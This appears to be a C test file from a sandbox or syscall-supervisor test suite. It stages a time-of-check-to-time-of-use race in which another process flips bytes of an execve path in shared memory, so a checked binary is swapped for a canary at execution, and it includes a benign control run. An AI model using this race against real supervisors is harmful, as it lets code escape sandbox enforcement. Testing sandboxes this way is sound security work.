/* The path is changed in memory while execve looks at it: what was checked must be what is executed (07, S6). Every supervisor that lets the kernel go on with the call loses this one.
 * Path and argument lie in memory that another process changes one byte of, over and over. */
#include "attack.h"
static volatile char *path;
static void flip(void) {
    for (int i = 0; i < 64; i++) {
        path[5] = 'a'; path[4096 + 2] = 'a';
        for (volatile int j = 0; j < 100; j++) ;
        path[5] = 'b'; path[4096 + 2] = 'b';
        for (volatile int j = 0; j < 500; j++) ;
    }
}
static void race(const char *other) {
    copy(GOOD, "/tmp/a", 0755); copy(other, "/tmp/b", 0755);
    char *p = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    strcpy(p, "/tmp/a"); strcpy(p + 4096, "--a");
    path = p;
    char *argv[] = {p, p + 4096, NULL};
    pid_t pid = busy(flip);
    long good = 0, bad = 0;
    for (long i = 0; shared->tried < tries && in_time(); i++) {
        int error = execute_often(p, argv, 50, ASKS);
        if (error == 0) { good++; if (status_of_last) won("status %#x", status_of_last); } else bad++;
    }
    rest(pid);
    note("%ld tries: %ld good, %ld children refused", shared->tried, good, bad);
    if (other != GOOD && (!good || shared->tried == good)) { note("no race took place"); exit(5); }
    if (other == GOOD && bad) exit(4);
}
static void attack(void) { race(CANARY); }
static void twin(void) { race(GOOD); }
